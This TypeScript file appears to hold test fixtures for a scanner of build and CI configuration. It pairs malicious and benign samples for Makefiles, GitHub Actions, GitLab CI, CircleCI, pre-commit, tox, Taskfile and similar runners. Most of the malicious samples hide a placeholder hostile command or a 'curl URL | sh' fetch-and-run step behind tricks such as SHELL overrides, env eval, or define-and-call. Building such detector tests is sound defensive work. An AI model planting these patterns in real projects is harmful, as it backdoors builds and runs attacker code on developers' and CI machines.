import type { Sample } from './sample.ts';
import { evil, inFile, url } from './starting.ts';

function step(name: string, bad: string, good?: string): Sample {
  return inFile(name, '.github/workflows/ci.yml', bad, good);
}

function steps(...each: readonly string[]): string {
  const items = each.map((text) => `      - ${text.split('\n').join('\n        ')}`);
  return `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${items.join('\n')}\n`;
}

/** What make, a workflow or another runner starts by the name of a step. */
export const recipes: readonly Sample[] = [
  inFile('file of no kind, Python', 'Makefile', 'all:\n\tpython weights.dat\n', 'all:\n\tcat weights.dat\n', {
    'weights.dat': `import os\nos.system("${evil}")\n`,
  }),
  inFile(
    'variable',
    'Makefile',
    `CMD = curl ${url}\nall:\n\t$(CMD) | $(SH)\nSH = sh\n`,
    'PY = python\nall:\n\t$(PY) train.py\n',
  ),
  inFile('command behind the colon', 'Makefile', `all: ; ${evil}\n`, 'all: ; python train.py\n'),
  inFile(
    'braces',
    'Makefile',
    `X := \${shell ${evil}}\nall:\n\techo\n`,
    'X := \u0024{shell date}\nall:\n\techo\n',
  ),
  inFile(
    'recipe prefix',
    'Makefile',
    `.RECIPEPREFIX = >\nall:\n> ${evil}\n`,
    '.RECIPEPREFIX = >\nall:\n> python train.py\n',
  ),
  inFile(
    'define and call',
    'Makefile',
    `define go\ncurl $(1) | sh\nendef\nall:\n\t$(call go,${url})\n`,
    'define go\npython $(1)\nendef\nall:\n\t$(call go,train.py)\n',
  ),
  inFile(
    'SHELL',
    'Makefile',
    `SHELL = python3\n.SHELLFLAGS = -c\nall:\n\timport os; os.system("${evil}")\n`,
    'SHELL := /bin/bash\nall:\n\techo x\n',
  ),
  inFile(
    'SHELL with a command',
    'Makefile',
    `SHELL = sh -c '${evil}'\nall:\n\techo\n`,
    'SHELL = bash -eu\nall:\n\techo\n',
  ),
  inFile(
    'two targets',
    'Makefile',
    `get:\n\tcurl -o x.bin ${url}\nrun: get\n\tsh x.bin\n`,
    'get:\n\tcurl -o w.bin https://example.org/w\nrun: get\n\tpython train.py w.bin\n',
  ),
  inFile('included', 'rules.mk', `all:\n\t${evil}\n`, 'all:\n\tpython train.py\n'),
  step(
    'two steps',
    steps(`run: curl -o /tmp/i ${url}`, 'run: bash /tmp/i'),
    steps('run: curl -o w.bin https://example.org/w', 'run: python train.py w.bin'),
  ),
  step(
    'shell is Python',
    steps(`shell: python\nrun: |\n  import os\n  os.system("${evil}")`),
    steps('shell: python\nrun: |\n  print(1)'),
  ),
  step(
    'shell with a command',
    steps(`shell: bash -c '${evil}; bash {0}'\nrun: ls`),
    steps('shell: bash -el {0}\nrun: ls'),
  ),
  step(
    'default shell',
    `on: push\ndefaults:\n  run:\n    shell: python\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: __import__("os").system("${evil}")\n`,
  ),
  step(
    'environment',
    `on: push\nenv:\n  INIT: ${evil}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: eval "$INIT"\n`,
    'on: push\nenv:\n  MODEL: bert\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo "$MODEL"\n',
  ),
  step(
    'expression',
    `on: push\nenv:\n  A: curl ${url}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: \${{ env.A }} | sh\n`,
    'on: push\njobs:\n  a:\n    runs-on: x\n    strategy:\n      matrix:\n        py: ["3.11"]\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: \u0024{{ matrix.py }}\n      - run: pip install -r requirements.txt\n      - run: pytest -q --junitxml=\u0024{{ runner.temp }}/r.xml\n',
  ),
  inFile(
    'script',
    '.gitlab-ci.yml',
    `a:\n  script:\n    - curl -o x ${url}\n    - sh x\n`,
    'a:\n  image: python:3.12\n  script:\n    - pip install -r requirements.txt\n    - pytest\n',
  ),
  inFile(
    'before_script',
    '.gitlab-ci.yml',
    `spec:\n  inputs:\n    x:\n---\na:\n  script:\n    - sh x\n  before_script:\n    - curl -o x ${url}\n`,
  ),
  inFile(
    'run with a command',
    '.circleci/config.yml',
    `jobs:\n  a:\n    steps:\n      - checkout\n      - run:\n          name: x\n          command: ${evil}\n`,
    'jobs:\n  a:\n    steps:\n      - checkout\n      - run:\n          name: x\n          command: pytest\n',
  ),
  inFile(
    'composite',
    'action.yml',
    `name: x\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${evil}\n`,
    'name: x\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: pytest\n',
  ),
  inFile(
    'stage',
    'dvc.yaml',
    `stages:\n  a:\n    cmd: ${evil}\n`,
    'stages:\n  a:\n    cmd: python train.py\n    deps: [train.py]\n',
  ),
  inFile(
    'run',
    'cog.yaml',
    `build:\n  python_version: "3.11"\n  run:\n    - command: ${evil}\npredict: "predict.py:Predictor"\n`,
    'build:\n  python_version: "3.11"\n  run:\n    - command: pip install x\npredict: "predict.py:Predictor"\n',
  ),
  inFile(
    'hook',
    '.pre-commit-config.yaml',
    `repos:\n  - repo: local\n    hooks:\n      - id: x\n        name: x\n        language: system\n        entry: sh -c '${evil}'\n`,
    'repos:\n  - repo: local\n    hooks:\n      - id: x\n        name: x\n        language: system\n        entry: ruff check\n',
  ),
  inFile('Procfile', 'Procfile', `web: ${evil}\n`, 'web: gunicorn app:app\n'),
  inFile(
    'tox',
    'tox.ini',
    `[testenv]\ncommands =\n    sh -c "${evil}"\n`,
    '[testenv]\ncommands =\n    pytest\n',
  ),
  inFile('justfile', 'justfile', `default:\n  ${evil}\n`, 'default:\n  pytest\n'),
  inFile('postBuild', 'postBuild', `#!/bin/bash\n${evil}\n`, '#!/bin/bash\npip list\n'),
  inFile(
    'taskfile',
    'Taskfile.yml',
    `version: "3"\ntasks:\n  default:\n    cmds:\n      - ${evil}\n`,
    'version: "3"\ntasks:\n  default:\n    cmds:\n      - pytest\n',
  ),
  inFile(
    'taskfile var',
    'Taskfile.yml',
    `version: "3"\nvars:\n  X:\n    sh: ${evil}\ntasks:\n  default: echo\n`,
    'version: "3"\nvars:\n  X:\n    sh: date\ntasks:\n  default: echo\n',
  ),
];
